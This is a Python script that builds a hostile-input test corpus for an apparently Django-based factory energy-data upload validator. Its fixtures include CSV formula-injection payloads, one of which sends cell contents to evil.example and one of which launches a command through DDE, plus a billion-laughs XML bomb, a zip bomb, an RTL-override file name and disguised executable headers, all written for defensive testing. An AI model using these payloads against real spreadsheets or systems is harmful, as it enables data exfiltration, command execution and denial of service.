"""Builds the hostile-input corpus: ``python -m tests.corpus.build`` rewrites files/.

Most files are small and committed (so anyone can open them and see what they hold); the few
that must be large or are only interesting as bytes built on the fly (a zip bomb, an
oversized file) are made by ``generated()`` when the tests run, never stored.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

from factory_eval.reporting.intake.columns import COLUMNS
from factory_eval.reporting.intake.template import EXAMPLE_ROW

FILES = Path(__file__).resolve().parent / "files"
MINIMAL_PDF = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00"
    b"\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\x00\x01\x00\x00\x05\x00\x01\r\n-\xb4\x00"
    b"\x00\x00\x00IEND\xaeB`\x82"
)


def good_row(code: str) -> dict:
    return dict(EXAMPLE_ROW, plant_code=code, plant_name=f"语料工厂{code[-2:]}")


def sheet(bad: dict, *, headers: dict | None = None, extra_rows: list[dict] = ()) -> bytes:
    """Row 2 is good; row 3 is the good row with ``bad`` applied (then any extra rows)."""
    rows = [good_row("CORPUS-01"), {**good_row("CORPUS-02"), **bad}]
    rows += [
        {**good_row(f"CORPUS-{index + 3:02d}"), **extra} for index, extra in enumerate(extra_rows)
    ]
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow([(headers or {}).get(column.name, column.header_zh) for column in COLUMNS])
    for values in rows:
        writer.writerow([values[column.name] for column in COLUMNS])
    return buffer.getvalue().encode("utf-8")


def xlsx(rows: list[list[object]] | None = None) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    for values in rows or [
        [column.header_zh for column in COLUMNS],
        [good_row("CORPUS-01")[column.name] for column in COLUMNS],
    ]:
        workbook.active.append(values)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def rezip(data: bytes, replace: dict[str, bytes]) -> bytes:
    """The same ZIP with some members' contents replaced."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, replace.get(info.filename, source.read(info)))
    return buffer.getvalue()


def zip_of(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">'
        % (level, (b"&lol%d;" % (level - 1) if level > 1 else b"&lol;") * 10)
        for level in range(1, 10)
    )
    + b']>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
    b'2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;'
    b"</t></is></c></row></sheetData></worksheet>"
)


def static_files() -> dict[str, bytes]:
    long_name = "超长名称" * 60
    return {
        # rows: each refused with its row and column
        "rows/negative.csv": sheet({"output_units": "-5"}),
        "rows/nan.csv": sheet({"natural_gas_m3": "NaN"}),
        "rows/infinity.csv": sheet(
            {"grid_electricity_kwh": "inf"}, extra_rows=[{"coal_t": "1e400"}]
        ),
        "rows/text-in-number.csv": sheet({"diesel_t": "12 吨"}, extra_rows=[{"lpg_t": "1O0"}]),
        "rows/absurd-magnitude.csv": sheet({"grid_electricity_kwh": "1e15"}),
        "rows/mwh-in-kwh-header.csv": sheet(
            {}, headers={"grid_electricity_kwh": "电网购电量（MWh）"}
        ),
        "rows/wan-kwh-header.csv": sheet(
            {}, headers={"grid_electricity_kwh": "电网购电量（万kWh）"}
        ),
        "rows/mwh-typed-contradicts-green-trade.csv": sheet({"grid_electricity_kwh": "60000"}),
        "rows/mwh-typed-alone.csv": sheet(
            {"grid_electricity_kwh": "60000", "green_trade_kwh": "0", "gec_count": "0"}
        ),
        "rows/year-out-of-range.csv": sheet({"year": "1999"}, extra_rows=[{"year": "2099"}]),
        "rows/year-not-a-year.csv": sheet(
            {"year": "二〇二二"}, extra_rows=[{"year": "2022-01-01"}]
        ),
        "rows/formula-injection.csv": sheet(
            {"plant_name": '=HYPERLINK("http://evil.example/?"&A1,"点击")'},
            extra_rows=[
                {"plant_code": "@SUM(A1:A9)"},
                {"city": "+cmd|' /C calc'!A0"},
                {"district": "-2+3"},
            ],
        ),
        "rows/rtl-override.csv": sheet({"plant_name": "发票\u202efdp.exe"}),
        "rows/zero-width.csv": sheet({"plant_code": "CORPUS\u200b-02"}),
        "rows/byte-order-mark-inside.csv": sheet({"plant_name": "工\ufeff厂"}),
        "rows/control-character.csv": sheet({"plant_name": "工厂\x07"}),
        "rows/emoji.csv": sheet({"plant_name": "零碳工厂🏭"}),
        "rows/over-long.csv": sheet(
            {"plant_name": long_name}, extra_rows=[{"plant_code": "C" * 41}]
        ),
        "rows/invalid-utf8-surrogate.csv": sheet({}).replace(
            "语料工厂02".encode(), b"\xed\xa0\x80"
        ),
        # accepted, normalised (decisions, not refusals: see the manifest)
        "rows/full-width-digits.csv": sheet({"output_units": "１２３，４５６"}),
        "rows/combining-characters.csv": sheet({"plant_name": "Cafe\u0301 工厂"}),
        # files refused at once
        "files/program.exe.csv": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\0" * 48,
        "files/program.elf.csv": b"\x7fELF\x02\x01\x01" + b"\0" * 57,
        "files/document.pdf.csv": MINIMAL_PDF,
        "files/image.png.xlsx": PNG,
        "files/photo.jpg.csv": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\0" * 32,
        "files/legacy.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504,
        "files/archive.gz.csv": b"\x1f\x8b\x08\x00" + b"\0" * 20,
        "files/word.docx.xlsx": zip_of(
            {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}
        ),
        "files/malformed.xlsx": b"PK\x03\x04 this is not really a zip archive",
        "files/text-named.exe": sheet({}),
        "rows/utf16-excel-unicode-text.csv": sheet({}).decode().replace(",", "\t").encode("utf-16"),
        # XLSX that only the full read refuses
        "xlsx/broken-xml.xlsx": rezip(xlsx(), {"xl/workbook.xml": b"<workbook><sheets><sh"}),
        "xlsx/billion-laughs.xlsx": rezip(xlsx(), {"xl/worksheets/sheet1.xml": BILLION_LAUGHS}),
        "xlsx/formula-cell.xlsx": xlsx(
            [
                [column.header_zh for column in COLUMNS],
                [good_row("CORPUS-01")[column.name] for column in COLUMNS],
                [
                    good_row("CORPUS-02")[column.name]
                    if column.name != "natural_gas_m3"
                    else "=1E9*1E9"
                    for column in COLUMNS
                ],
            ]
        ),
        # evidence files
        "evidence/program.exe.pdf": b"MZ\x90\x00\x03" + b"\0" * 59,
        "evidence/image.png.pdf": PNG,
        "evidence/page.html.pdf": b"<html><script>alert(1)</script></html>",
        "evidence/not-word.docx": zip_of({"readme.txt": b"hello"}),
    }


def generated(name: str) -> bytes:
    """Files made when the tests run (too big, or pointless, to store)."""
    if name == "zip-bomb.xlsx":  # 50 MB of zeros in about 50 kB, dressed as a workbook
        return zip_of(
            {
                "xl/workbook.xml": b"<workbook/>",
                "xl/worksheets/sheet1.xml": b"\0" * (50 * 1024 * 1024),
            }
        )
    if name == "truncated.xlsx":
        data = xlsx()
        return data[: len(data) // 2]
    if name == "empty.csv":
        return b""
    raise KeyError(name)


def write() -> None:
    for relative, content in static_files().items():
        path = FILES / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)


if __name__ == "__main__":
    import django

    django.setup()
    write()
